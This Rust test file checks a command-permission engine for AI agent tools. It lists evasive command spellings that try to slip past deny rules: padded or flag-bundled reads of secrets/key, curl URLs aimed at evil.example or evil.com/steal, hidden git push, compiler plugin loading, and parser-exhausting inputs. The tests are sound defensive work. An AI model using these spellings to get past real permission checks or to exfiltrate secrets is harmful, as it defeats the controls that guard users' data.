//! Words of a command that hide a path, a host or a subcommand from a rule. Each stands beside the straight way, which
//! is the control.

use serde_json::json;
use toolcrib_core::policy::{Layer, rules_in};
use toolcrib_shell::BashReader;

use crate::opened::{Opened, Scratch};

fn place(rules: &str) -> Scratch {
    let scratch = Scratch::new();
    scratch.put_rules(rules);
    for (path, text) in [("secrets/key", "topsecret"), ("a.txt", "a"), ("z", "z"), ("docs/a", "a")]
    {
        scratch.put(path, text);
    }
    scratch
}

fn allow(argv: &str) -> String {
    format!("[[rule]]\nargv = [{argv}]\neffect = \"allow\"\n")
}

#[track_caller]
fn check(crib: &Opened, allowed: &[&str], others: &[&str]) {
    for command in allowed {
        assert_eq!(crib.decide_command(command), "allow", "{command}");
    }
    for command in others {
        let shown: String = command.chars().take(200).collect();
        assert_ne!(crib.decide_command(command), "allow", "{shown}");
    }
}

const SECRETS: &str = "[[rule]]\npaths = [\"secrets/**\"]\neffect = \"deny\"\n";

#[test]
fn a_path_is_found_wherever_it_stands_among_the_words() {
    let scratch = place(&format!("{SECRETS}{}", allow("[\"gzip\", \"file\"]")));
    let crib = scratch.open();
    let repeated = format!("cat {}secrets/key", "z ".repeat(4100));
    let long = format!("diff --from-file={}secrets/key a.txt", "./".repeat(2041));
    let bundled = format!("grep -{}fsecrets/key a.txt", "h".repeat(45));
    check(
        &crib,
        &[
            "cat z a.txt",
            "grep -v -- -zzz a.txt",
            "grep - a.txt",
            "grep secrets/key a.txt",
            "git log --grep secrets/key",
            "git log --pretty=oneline a.txt",
            "diff --from-file=z a.txt",
            "echo secrets/key",
            "echo a.txt | cat",
        ],
        &[
            &repeated,
            "grep -v -- -zzz secrets/key",
            "git grep -v -- -zzz secrets/key",
            "grep - secrets/key",
            "git log -p --pretty secrets/key",
            "git log -p -m secrets/key",
            "git ls-files -m secrets/key",
            &long,
            &bundled,
            // What is committed cannot be masked, so whatever prints it is asked about.
            "git log -p a.txt",
            "git show HEAD:a.txt",
            "git show HEAD:secrets/a:b",
            "git show HEAD:secrets/a@b",
            "echo secrets/key | cat",
        ],
    );
    let shut = "[[rule]]\nwrites = [\"docs/**\"]\neffect = \"deny\"\n";
    let scratch = place(&format!("{shut}{}", allow("[\"gzip\", \"file\"]")));
    let crib = scratch.open();
    let repeated = format!("gzip -kf {}docs/a", "z ".repeat(1100));
    check(&crib, &["gzip -kf z", "file z"], &[&repeated, "gzip -kf docs/a", "file -C -m docs/x"]);
}

#[test]
fn a_file_that_names_others_does_not_speak_for_them() {
    let programs =
        allow("[\"strings\", \"jq\", \"file\", \"sha256sum\", \"curl\", \"gcc\", \"rustc\"]");
    let scratch = place(&format!("{SECRETS}{programs}"));
    let crib = scratch.open();
    check(
        &crib,
        &[
            "strings docs/a",
            "jq . docs/a",
            "file docs/a",
            "sha256sum docs/a",
            "curl -s https://x.example/",
            "curl -g 'https://x.example/{a}'",
            "gcc -O2 -c a.c",
            "rustc -O a.rs",
        ],
        &[
            "strings @docs/list",
            "jq -n -f docs/p.jq",
            "jq -nf docs/p.jq",
            "jq --from-file docs/p.jq",
            "file -f docs/list",
            "sha256sum -c docs/list",
            "sha256sum --check docs/list",
            "curl -s 'f{i}le:///x/secrets/key'",
            "gcc --prefix=./x/ -c a.c",
            "gcc -fpass-plugin=./x.so a.c",
            "rustc -C link-arg=-B./x a.rs",
            "rustc -Clink-args=-fplugin=./x.so a.rs",
            "rustc --extern m=./x.so a.rs",
        ],
    );
}

#[test]
fn every_condition_of_a_rule_that_allows_holds() {
    let hosts = "[[rule]]\nargv = [\"curl\"]\nhosts = [\"api.example.com\"]\neffect = \"allow\"\n\
        covers = [\"curl https://api.example.com/x\"]\nspares = [\"curl https://evil.example/\"]\n";
    let args = "[[rule]]\nargv = [\"mkdir\"]\nargs = '\\{\"command\":\"mkdir build\"\\}'\neffect = \"allow\"\n";
    let never =
        "[[rule]]\ntool = \"bash\"\npaths = [\"out/**\"]\nargs = \"never\"\neffect = \"allow\"\n";
    let scratch = place(&format!("{hosts}{args}{never}"));
    let crib = scratch.open();
    check(
        &crib,
        &["curl https://api.example.com/", "mkdir build"],
        &[
            "curl https://evil.example/",
            "curl evil.example",
            "curl https://api.example.com/ https://evil.example/",
            "mkdir other",
            "ls > out/x",
        ],
    );
    let read = |rule: &str, effect: &str| {
        let text = format!("[[rule]]\n{rule}\neffect = \"{effect}\"\n");
        let rules = rules_in(&text, "rules.toml", Layer::Operator, Some(&BashReader::default()));
        rules.map(|parsed| parsed.rules.len()).map_err(|err| err.to_string())
    };
    for rule in
        ["argv = [\"touch\"]\npaths = [\"docs/**\"]", "argv = [\"tee\"]\nwrites = [\"out/**\"]"]
    {
        let refused = read(rule, "allow").unwrap_err();
        assert!(refused.contains("cannot combine `argv` with"), "{refused}");
        assert_eq!(read(rule, "deny"), Ok(1));
    }
    assert!(read("paths = [\"a/**/b/../c\"]", "deny").is_err());
}

#[test]
fn other_spellings_of_hosts_commands_and_calls_are_the_same() {
    let evil = "[[rule]]\nhosts = [\"evil.example\"]\neffect = \"deny\"\n";
    let push = "[[rule]]\nargv = [\"git\", \"push\"]\neffect = \"deny\"\n";
    let call = "[[rule]]\ntool = \"wink/create_file\"\ncall = {content = \"y\", path = \"docs/x\"}\neffect = \"deny\"\n";
    let scratch = place(&format!("{evil}{push}{call}{}", allow("[\"curl\", \"git\"]")));
    let crib = scratch.open();
    check(
        &crib,
        &["curl http://good.example/", "git --no-pager log", "git commit -m push"],
        &[
            "curl http://evil.example/",
            "curl 'http://good.example\\@evil.example/'",
            "curl 'http://evil.example\\@good.example/'",
            "git push origin x",
            "git --no-pager push origin x",
            "git -P push origin x",
        ],
    );
    let explain =
        |path: &str| crib.decide("wink/create_file", json!({"path": path, "content": "y"}));
    assert_eq!((explain("docs/x"), explain("docs/y")), ("deny", "ask"));
}

#[test]
fn flags_before_its_words_hide_no_command() {
    let ask = |argv: &str| format!("[[rule]]\nargv = [{argv}]\neffect = \"ask\"\n");
    let deny = "[[rule]]\nargv = [\"git\", \"push\"]\neffect = \"deny\"\n";
    let all = allow("[\"git\", \"kubectl\", \"cargo\"]");
    let scratch = place(&format!("{deny}{}{all}", ask("\"kubectl\", \"delete\"")));
    let crib = scratch.open();
    let many = |flag: &str, times: usize| format!("{flag} ").repeat(times);
    check(
        &crib,
        &["git --no-pager log", "kubectl --v=1 get pods", "cargo +nightly test"],
        &[
            &format!("git {}push origin main", many("--no-pager", 9)),
            &format!("git {}push origin main", many("--no-pager", 500)),
            &format!("git {}push origin main", many("-c a.b=c", 9)),
            &format!("kubectl {}delete ns prod", many("--v=1", 9)),
            "cargo +nightly publish",
        ],
    );
}

#[test]
fn hosts_and_everyday_words_are_told_apart() {
    let rule = "[[rule]]\nargv = [\"curl\"]\nhosts = [\"api.github.com\"]\neffect = \"allow\"\n";
    let commit = allow("\"git\", [\"commit\", \"add\"]") + &allow("\"npm\", \"run\", \"build\"");
    let scratch = place(&format!("{rule}{commit}{}", allow("\"seq\"")));
    let crib = scratch.open();
    check(
        &crib,
        &[
            "curl -H 'Accept: application/json' https://api.github.com/repos",
            "curl -X GET https://api.github.com/repos",
            "curl --max-time 10 https://api.github.com/repos",
            "git commit -m \"feat!: drop x\"",
            "git commit -m \"caf\u{e9}\"",
            "git commit -m 'one\n\ntwo'",
            "npm run build -- --prod",
            "seq 3 0 < a.txt",
        ],
        &[
            "curl -s https://api.github.com/ .@evil.com/steal",
            "curl -s https://api.github.com/ .localhost:18766/",
            "curl -s https://api.github.com/ //evil.com/",
            "git commit -m one\ntwo",
            "git commit -m caf\u{e9}",
            "npm run build --prefix=x",
            "seq 3 0<a.txt",
            "cd 0</dev/null && pwd",
        ],
    );
    let told = crib.explain("clemini/bash", json!({"command": "npm run build | tail -20"}));
    assert!(!told.decision.rule.contains("harmless"), "{}", told.decision.rule);
}

#[test]
fn a_long_way_is_not_gone_to_its_end() {
    let scratch = place(SECRETS);
    let crib = scratch.open();
    scratch.put("d/x", "");
    std::os::unix::fs::symlink("d", scratch.work().join("l")).unwrap();
    let moves = vec![format!("cd {}", "l/../".repeat(100)); 8].join("; ");
    let words: Vec<String> =
        (0..30).map(|it| format!("{}{it}{}", "l/../".repeat(300), ":x".repeat(15))).collect();
    let start = std::time::Instant::now();
    check(&crib, &["cat d/x"], &[&format!("{moves}; cat {}", words.join(" "))]);
    // It took many seconds; any bound far below that tells the two apart.
    assert!(start.elapsed() < std::time::Duration::from_secs(10));
}

#[test]
fn a_search_names_what_its_pattern_names() {
    let scratch = place(SECRETS);
    let crib = scratch.open();
    let calls = [
        ("wink/grep_search", "file_pattern", json!({"pattern": "top"})),
        ("clemini/grep", "file_pattern", json!({"pattern": "top"})),
        ("clemini/glob", "pattern", json!({})),
        ("wink/file_search", "pattern", json!({})),
    ];
    for (tool, key, mut args) in calls {
        for (pattern, expect) in
            [("secrets/key", "refused"), ("secrets/*", "refused"), ("docs/*", "ok")]
        {
            args[key] = json!(pattern);
            assert_eq!(crib.call(tool, args.clone()).kind(), expect, "{tool} {pattern}");
        }
    }
}

#[test]
fn reading_a_command_ends_whatever_its_variables_are() {
    let scratch = place("");
    let crib = scratch.open();
    let names = ('a'..='z').flat_map(|a| ('a'..='z').map(move |b| format!("{a}{b}=;")));
    let names: String = names.collect();
    let command = format!("{names}{names}{names}: {}", "$- ".repeat(14_000));
    // It took most of a minute. That the work is bounded is counted in the tests of the reader.
    assert_ne!(crib.decide_command(&command), "allow");
}
